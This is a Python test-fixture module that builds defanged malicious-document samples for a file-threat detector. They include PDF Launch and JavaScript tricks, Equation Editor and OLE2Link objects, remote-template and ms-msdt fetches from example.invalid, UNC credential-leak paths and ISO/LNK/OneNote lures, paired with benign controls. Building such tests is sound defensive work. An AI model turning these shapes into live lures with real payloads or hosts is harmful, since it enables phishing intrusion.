"""Shapes that public reports describe, each with a harmless payload, by the name of a file."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from tests.engines.documents import make
from tests.engines.documents.make import (
    COMPOSITE,
    EQUATION,
    HARMLESS_PE,
    LINK,
    PAYLOAD,
    PNG,
    SCRIPT,
    SHELL,
    attached,
    clsid,
    docx,
    equation_object,
    iso,
    link_object,
    linked,
    linked_object,
    lnk,
    native,
    ole,
    onenote,
    package,
    packed,
    pdf,
    rtf,
    scripted,
    stream,
    with_relations,
)

_LAUNCH = b"<</S/Launch/Win<</F(cmd.exe)/P(/c echo hello)>>>>"
_XFA = b'<template><script contentType="application/x-javascript">%b</script></template>'
_INNER = pdf(b"/OpenAction" + _LAUNCH)
_NAMES = b"/Names<</EmbeddedFiles<</Names[(a)20 0 R]>>>>"

PDF: Mapping[str, bytes] = {
    "launch.pdf": pdf(b"/OpenAction" + _LAUNCH),
    "launch-page.pdf": pdf(page=b"/AA<</O" + _LAUNCH + b">>"),
    "launch-packed.pdf": pdf(b"/OpenAction 11 0 R", objects={10: packed({11: _LAUNCH})}),
    "launch-file.pdf": pdf(b"/OpenAction<</S/Launch/F(a.doc)>>"),
    "launch-screensaver.pdf": pdf(page=b"/Annots[<</A<</S/Launch/F(photos.scr)>>>>]"),
    "launch-escaped.pdf": pdf(b"/O#70enAction<</S/L#61unch/W#69n<</F(mshta.exe)/P(a)>>>>"),
    "launch-next.pdf": pdf(b"/OpenAction<</S/GoTo/Next 10 0 R>>", objects={10: _LAUNCH}),
    "launch-old-revision.pdf": pdf(objects={10: _LAUNCH}) + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n%%EOF\n",
    "script-escaped.pdf": pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "export.pdf": scripted(b'this.exportDataObject({ cName: "a.txt", nLaunch: 2 });'),
    "export-spread.pdf": scripted(b'this . exportDataObject ( { cName : "a" ,\n nLaunch : 2 } )'),
    "export-names.pdf": pdf(b"/Names<</JavaScript<</Names[(a)10 0 R]>>>>",
                            objects={10: b"<</S/JavaScript/JS(this.exportDataObject\\({nLaunch:2}\\))>>"}),
    "export-joined.pdf": scripted(b"this['export' + 'DataObject']({cName: 'a', ['nLa' + 'unch']: 2});"),
    "export-letters.pdf": scripted(b"this.\\u0065xport\\x44ataObject({cName: 'a', n\\u004caunch: 2});"),
    "export-comments.pdf": scripted(b"this.export/* a */DataObject/**/({cName: 'a'});"),
    "decoder-joined.pdf": scripted(b"var e = 'ev' + 'al'; this[e](this['unes' + 'cape']('%61'));"),
    "get-icon.pdf": scripted(b"var a = Collab.getIcon(b + '_N.bundle');"),
    "email-info.pdf": scripted(b"Collab.collectEmailInfo({subj:'', msg: a});"),
    "printf.pdf": scripted(b'util.printf("%45000f", 1.5);'),
    "new-player.pdf": scripted(b"try { this.media.newPlayer(null); } catch (e) {}"),
    "spray.pdf": scripted(b"var a = unescape('%u9090%u9090'); while (a.length < 99) a += a;"),
    "dictionary.pdf": scripted(b"spell.customDictionaryOpen(0, a);"),
    "launch-url.pdf": scripted(b'app.launchURL("file:///C|/windows/system32/calc.exe", true);'),
    "hidden-script.pdf": pdf(b"/OpenAction<</S/JavaScript/JS 10 0 R>>", objects={
        10: stream(b"6576616c28756e6573636170652861292929>", b"/Filter[/ASCIIHexDecode/Crypt/RunLengthDecode]"),
        11: b"<</S/JavaScript/JS(eval\\(unescape\\(a\\)\\))>>"}),
    "attached-script.pdf": attached("invoice.js", PAYLOAD),
    "attached-query.pdf": attached("a.iqy", b"WEB\r\n1\r\nhttp://example.invalid/a.dat\r\n"),
    "attached-program.pdf": attached("update.exe", HARMLESS_PE),
    "attached-page.pdf": attached("form.hta", b"<hta:application><script>1</script>"),
    "attached-disguised.pdf": attached("report.pdf.lnk", lnk()),
    "attached-document.pdf": attached("a.docm", with_relations(("attachedTemplate", "http://example.invalid/a.dotm"))),
    "goto-embedded.pdf": pdf(b"/OpenAction<</S/GoToE/T<</R/C/N(a)>>>>" + _NAMES, objects={
        20: b"<</F(a.pdf)/EF<</F 21 0 R>>>>", 21: stream(_INNER)}),
    "server.pdf": pdf(page=b"/AA<</O<</S/GoToR/F(\\\\\\\\example.invalid\\\\s)/D[0/Fit]>>>>"),
    "submit-server.pdf": pdf(b"/OpenAction<</S/SubmitForm/F(\\\\\\\\example.invalid\\\\s)>>"),
    "submit-open.pdf": pdf(b"/OpenAction<</S/SubmitForm/F(http://example.invalid/)>>"),
    "open-link.pdf": pdf(b"/OpenAction<</S/URI/URI(http://example.invalid/)>>"),
    "import.pdf": pdf(b"/OpenAction<</S/ImportData/F(\\\\\\\\example.invalid\\\\a.fdf)>>"),
    "picture.pdf": linked(b"https://example.invalid/view", picture=True),
    "wide-link.pdf": linked(b"https://example.invalid/view", box=b"0 0 400 600"),
    "link-script.pdf": linked(b"https://example.invalid/statement.js"),
    "link-image.pdf": linked(b"https://example.invalid/scan.iso"),
    "link-number.pdf": linked(b"http://192.0.2.7/invoice.zip"),
    "link-user.pdf": linked(b"https://bank.example@example.invalid/login.zip"),
    "link-search.pdf": linked(b"search-ms:query=a&crumb=location:\\\\\\\\example.invalid\\\\s"),
    "link-javascript.pdf": linked(b"javascript:app.alert\\(1\\)"),
    "flash.pdf": pdf(page=b"/Annots[<</Subtype/RichMedia>>]", objects={10: stream(b"FWS\x0a\x20\0\0\0" + bytes(24))}),
    "form.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(a)>>/AcroForm<</XFA 10 0 R>>",
                    objects={10: stream(_XFA % b"this.getURL('http://example.invalid'); eval(a);")}),
}  # fmt: skip

_EQUATION_RTF = native(b"Equation.3", equation_object(b"A" * 60))
_OLD = b"{\\*\\zz q}"
RTF: Mapping[str, bytes] = {
    "equation.rtf": rtf(_EQUATION_RTF),
    "equation-update.rtf": rtf(_EQUATION_RTF, b"\\objemb\\objupdate"),
    "equation-honest-object.rtf": rtf(native(b"Equation.3", equation_object()), b"\\objemb\\objupdate"),
    "equation-spread.rtf": rtf(_EQUATION_RTF, between=b" "),
    "equation-groups.rtf": rtf(_EQUATION_RTF, between=_OLD),
    "equation-words.rtf": rtf(_EQUATION_RTF, between=b"\\mmbrk "),
    "equation-quotes.rtf": rtf(_EQUATION_RTF, between=b"\\'41"),
    "equation-short-head.rtf": rtf(_EQUATION_RTF, head=b"{\\rt"),
    "equation-odd-head.rtf": rtf(_EQUATION_RTF, head=b"{\\rtxyz12"),
    "equation-class-word.rtf": rtf(PAYLOAD * 9, b"\\objemb\\objupdate{\\*\\objclass Equation.3}"),
    "equation-by-class.rtf": rtf(native(b"Unknown", equation_object(b"cmd.exe /c echo hello > a.txt & echo AAAAAAAA"))),
    "equation-head.rtf": rtf(native(b"Equation.3", equation_object(head=64))),
    "equation-native.rtf": rtf(native(b"eQuAtIoN.3", ole({"\x01oLE10nATivE": b"\x90" * 64}, EQUATION))),
    "equation-raw.rtf": rtf(native(b"Equation.3", make.equation(b"A" * 80))),
    "link.rtf": rtf(native(b"OLE2Link", link_object("http://example.invalid/a.hta")), b"\\objautlink\\objupdate"),
    "link-embedded.rtf": rtf(native(b"OLE2Link", link_object("http://example.invalid/a.doc"))),
    "link-script.rtf": rtf(native(b"OLE2Link", link_object("script:http://example.invalid/a.sct"))),
    "link-composite.rtf": rtf(
        native(b"OLE2Link", link_object("http://example.invalid/a", more=clsid(COMPOSITE) + clsid(SCRIPT)))
    ),
    "link-old.rtf": rtf(linked_object(b"http://example.invalid/a.doc"), b"\\objlink\\objupdate"),
    "link-share.rtf": rtf(linked_object(b"\\\\example.invalid\\s\\a.doc"), b"\\objautlink"),
    "template.rtf": b"{\\rtf1{\\*\\template http://example.invalid/a.dotm}Hello}",
    "template-escaped.rtf": b"{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\'3a//example.invalid/a}Hello}",
    "template-share.rtf": b"{\\rtf1{\\*\\template \\\\\\\\example.invalid\\\\s\\\\a.dotx}Hello}",
    "package-script.rtf": rtf(package(b"run.js")),
    "package-program.rtf": rtf(package(b"a.exe", HARMLESS_PE)),
    "package-scriptlet.rtf": rtf(package(b"a.sct", b"<scriptlet></scriptlet>"), b"\\objemb\\objw1\\objh1\\objupdate"),
    "package-shortcut.rtf": rtf(package(b"invoice.pdf.lnk", lnk())),
    "package-two.rtf": rtf(package(b"1.bat")) + rtf(_EQUATION_RTF),
    "fragments.rtf": b"{\\rtf1{\\shp{\\sp{\\sn pFragments}{\\sv 1;1;" + b"0123456789abcdef" * 40 + b"}}}}",
    "overrides.rtf": b"{\\rtf1{\\*\\listoverridetable{\\listoverride\\listid1\\listoverridecount25}}Hello}",
    "fonts.rtf": b"{\\rtf1{\\fonttbl" + b"".join(b"{\\f%d A;}" % n for n in range(30_500)) + b"}}",
    "control.rtf": rtf(native(b"MSComctlLib.ListViewCtrl.2", ole({"Contents": b"Cobjd" * 9})), b"\\objocx"),
    "loader.rtf": rtf(native(b"otkloadr.WRAssembly.1", b"\1" * 20)),
    "page.rtf": rtf(native(b"htmlfile", b"\0" * 16), b"\\objhtml"),
    "browser.rtf": rtf(native(b"Shell.Explorer.1", ole({"Contents": lnk()}, SHELL))),
}

_SOAP = "ecabb0c7-7f19-11d2-978e-0000f8757e2a"
_XML = '<?xml version="1.0"?>'
_CONTROL = _XML + '<ax:ocx ax:classid="{%s}"/>'
OLE: Mapping[str, bytes] = {
    "equation.doc": ole({"WordDocument": bytes(4096), "ObjectPool/_1/Equation Native": make.equation(b"A" * 50)}),
    "equation.xlsx": docx({"xl/embeddings/oleObject1.bin": equation_object(b"A" * 70)}),
    "equation-native.xlsx": docx({"xl/embeddings/a.bin": ole({"\x01Ole10Native": b"\x90" * 80}, EQUATION)}),
    "moniker.docx": docx({"word/embeddings/oleObject1.bin": link_object("http://example.invalid/a.doc")}),
    "script.ppsx": docx(
        {"ppt/embeddings/oleObject1.bin": link_object("script:http://example.invalid/a", more=clsid(LINK))}
    ),
    "script-class.docx": docx({"word/embeddings/o.bin": link_object("http://example.invalid/", more=clsid(SCRIPT))}),
    "soap.docx": docx(
        {"word/embeddings/o.bin": link_object("http://example.invalid/?wsdl", more=clsid(_SOAP))}
    ),
    "package.docx": docx({"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": make.packaged("run.vbs")})}),
    "browser.docx": docx({"word/embeddings/oleObject1.bin": ole({"Contents": lnk()}, SHELL)}),
    "control.docx": docx(
        {"word/activeX/activeX1.xml": _CONTROL % SHELL.upper()}
    ),
    "flash.docx": docx(
        {"word/activeX/activeX1.xml": _CONTROL % "D27CDB6E-AE6D-11CF-96B8-444553540000"}
    ),
}  # fmt: skip

_SLIDE = '<?xml version="1.0"?><p:sld><a:hlink{} r:id="r1" action="ppaction://program"/></p:sld>'
OFFICE: Mapping[str, bytes] = {
    "template.docx": with_relations(("attachedTemplate", "http://example.invalid/a.dotm")),
    "template-number.docx": with_relations(("attachedTemplate", "http://192.0.2.1/a.dotm")),
    "template-share.docx": with_relations(("attachedTemplate", "file://example.invalid/s/a.dotm")),
    "object.docx": with_relations(("oleObject", "https://example.invalid/a.doc")),
    "page.docx": with_relations(("oleObject", "https://example.invalid/a.html!")),
    "mhtml.docx": with_relations(("oleObject", "mhtml:http://example.invalid/a!x-usc:http://example.invalid/a")),
    "diagnostics.docx": with_relations(("attachedTemplate", "ms-msdt:/id PCWDiagnostic")),
    "frame.docx": with_relations(("frame", "http://example.invalid/a.htm")),
    "subdocument.docx": with_relations(("subDocument", "\\\\example.invalid\\s\\a.doc")),
    "picture.docx": with_relations(("image", "file://example.invalid/s/a.png")),
    "action.pptx": docx({"ppt/slides/slide1.xml": _SLIDE.format("Click")}),
    "hover.pptx": docx({"ppt/slides/slide1.xml": _SLIDE.format("MouseOver")}),
}  # fmt: skip

ONENOTE: Mapping[str, bytes] = {
    "page.one": onenote({"a.hta": b"<script>1</script>", "b.png": PNG}, "Double click to view the file"),
    "script.one": onenote({"a.js": PAYLOAD, "b.png": PNG}),
    "batch.one": onenote({"open.bat": PAYLOAD, "b.png": PNG}, "Click here"),
    "command.one": onenote({"open.cmd": PAYLOAD}),
    "program.one": onenote({"a.exe": HARMLESS_PE, "b.png": PNG}),
    "shortcut.one": onenote({"invoice.pdf.lnk": lnk(), "b.png": PNG}),
    "help.one": onenote({"a.chm": PAYLOAD, "b.png": PNG}),
    "turned.one": onenote({"invoice\u202efdp.wsf": PAYLOAD}, "double-click"),
}

_HEAD = b'<?xml version="1.0"?>'
_MSC = _HEAD + b'<MMC_ConsoleFile ConsoleVersion="3.0"><StringTable><String>%b</String></StringTable></MMC_ConsoleFile>'
_RDP = b"full address:s:example.invalid\r\n"
_CLICKONCE = (
    _HEAD + b'<asmv1:assembly><deployment><deploymentProvider codebase="http://example.invalid/a.application"/>'
    b"</deployment></asmv1:assembly>"
)
_SETTING = (
    _HEAD + b"<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd.exe /c echo</DeepLink>"
    b"</ApplicationInformation></SearchableContent></PCSettings>"
)
DELIVERY: Mapping[str, bytes] = {
    "shortcut.iso": iso({"document.lnk": lnk(), "a.js": PAYLOAD}),
    "program.iso": iso({"invoice.exe": HARMLESS_PE}),
    "script.iso": iso({"a.vbs": PAYLOAD}),
    "shortcut.img": iso({"document.lnk": lnk(), "a.dll": HARMLESS_PE, "r.txt": b"r"}),
    "disguised.iso": iso({"scan.pdf.exe": HARMLESS_PE}),
    "page.hta": b"<html><hta:application id=a><script language=vbscript>x = 1</script></html>",
    "addin.xll": HARMLESS_PE + b"xlAutoOpen\0",
    "unnamed-addin.bin": HARMLESS_PE + b"xlAutoOpen\0",
    "query.iqy": b"WEB\r\n1\r\nhttp://example.invalid/a.dat\r\n",
    "query.rqy": b"QUERY\r\nhttp://example.invalid/a.dat\r\n",
    "folder.library-ms": _HEAD + b"<libraryDescription><url>\\\\example.invalid\\s</url></libraryDescription>",
    "folder.searchConnector-ms": _HEAD
    + b"<searchConnectorDescription><url>https://example.invalid/</url></searchConnectorDescription>",
    "setting.settingcontent-ms": _SETTING,
    "link.url": b"[InternetShortcut]\r\nURL=file://example.invalid/s/a.exe\r\n",
    "icon.url": b"[InternetShortcut]\r\nURL=http://example.invalid/\r\nIconFile=\\\\example.invalid\\s\\a.ico\r\n",
    "folder.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\example.invalid\\s\\a.ico\r\n",
    "host.wsh": b"[ScriptFile]\r\nPath=\\\\example.invalid\\s\\a.js\r\n[Options]\r\nTimeout=0\r\n",
    "colours.theme": b"[Theme]\r\nDisplayName=a\r\nBrandImage=\\\\example.invalid\\s\\a.png\r\n",
    "saver.theme": b"[boot]\r\nSCRNSAVE.EXE=a.scr\r\n",
    "office.rdp": _RDP + b"drivestoredirect:s:*\r\n",
    "office2.rdp": (_RDP + b"redirectclipboard:i:1\r\n").decode().encode("utf-16"),
    "setup.application": _CLICKONCE,
    "setup.appref-ms": "\ufeffhttp://example.invalid/a.application#a".encode("utf-16-le"),
    "setup.appinstaller": b'<?xml version="1.0"?><AppInstaller Uri="https://example.invalid/a.appinstaller"/>',
    "start.jnlp": _HEAD + b'<jnlp codebase="http://example.invalid/"><application-desc/></jnlp>',
    "console.msc": _MSC % b"res://apds.dll/redirect.html?target=javascript:eval(a)",
    "tasks.msc": _MSC % b'<Task CommandLine="powershell">',
    "fix.diagcab": b"MSCF" + bytes(60),
    "table.odc": b"<html><odc:ConnectionString>Data Source=http://example.invalid/a</odc:ConnectionString></html>",
}  # fmt: skip

HARMLESS: Mapping[str, bytes] = {
    "text.pdf": pdf(),
    "goto.pdf": pdf(b"/OpenAction[3 0 R/Fit]"),
    "link.pdf": linked(b"https://www.example.invalid/a.html", b"mailto:a@example.invalid"),
    "attached.pdf": attached("invoice.xml", b"<?xml version='1.0'?><invoice/>"),
    "form.pdf": pdf(b"/AcroForm<</Fields[]>>", page=b"/AA<</K<</S/JavaScript/JS(AFNumber_Format\\(2\\))>>>>"),
    "print.pdf": scripted(b"this.print({bUI: true});"),
    "tax-form.pdf": pdf(b"/AcroForm<</XFA 10 0 R>>/OpenAction<</S/JavaScript/JS(app.alert\\('a'\\))>>", objects={
        10: stream(_XFA % b"if (a) eval('1'); this.submitForm({cURL: b}); app.launchURL('https://example.invalid/');")}),
    "picture.pdf": pdf(
        objects={30: stream(b"\xff\xd8\xff" + bytes(64), b"/Subtype/Image/Filter/DCTDecode")}, font=False
    ),
    "text.rtf": b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}Hello \\\\objupdate\\par}",
    "object.rtf": rtf(native(b"Word.Document.8", ole({"WordDocument": bytes(4096)}))),
    "package.rtf": rtf(package(b"readme.txt")),
    "template.rtf": b"{\\rtf1{\\*\\template C:\\\\a.dotx}Hello}",
    "text.docx": docx(),
    "hyperlink.docx": with_relations(("hyperlink", "https://example.invalid/"), ("image", "https://example.invalid/a")),
    "template.docx": with_relations(("attachedTemplate", "file:///C:/Users/a/a.dotm")),
    "package.docx": docx({"word/embeddings/a.bin": ole({"\x01Ole10Native": make.packaged("readme.txt")})}),
    "equation.docx": docx({"word/embeddings/a.bin": equation_object()}),
    "notes.one": onenote({"b.png": PNG}, "Minutes of the meeting"),
    "agenda.one": onenote({"minutes.docx": docx(), "agenda.pdf": pdf(), "b.png": PNG}, "Click here for the agenda"),
    "drivers.iso": iso({"autorun.inf": b"[autorun]\r\nicon=a.ico\r\n", "readme.txt": b"hello"}),
    "attached.one": onenote({"minutes.docx": docx()}, "Minutes"),
    "documents.iso": iso({"readme.txt": b"hello", "b.png": PNG}),
    "link.url": b"[InternetShortcut]\r\nURL=https://www.example.invalid/\r\n",
    "table.slk": b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n",
    "plain.theme": b"[Theme]\r\nDisplayName=a\r\n[boot]\r\nSCRNSAVE.EXE=%WINDIR%\\system32\\a.scr\r\n",
    "library.dll": HARMLESS_PE,
}  # fmt: skip


def graded() -> Iterator[tuple[str, bool, str, bytes]]:
    """Name, whether it is hostile in shape, file name, bytes: for the guard over the weights."""
    for shapes in (PDF, RTF, OLE, OFFICE, ONENOTE, DELIVERY):
        for name, data in shapes.items():
            yield name, True, name, data
    for name, data in HARMLESS.items():
        yield name, False, name, data
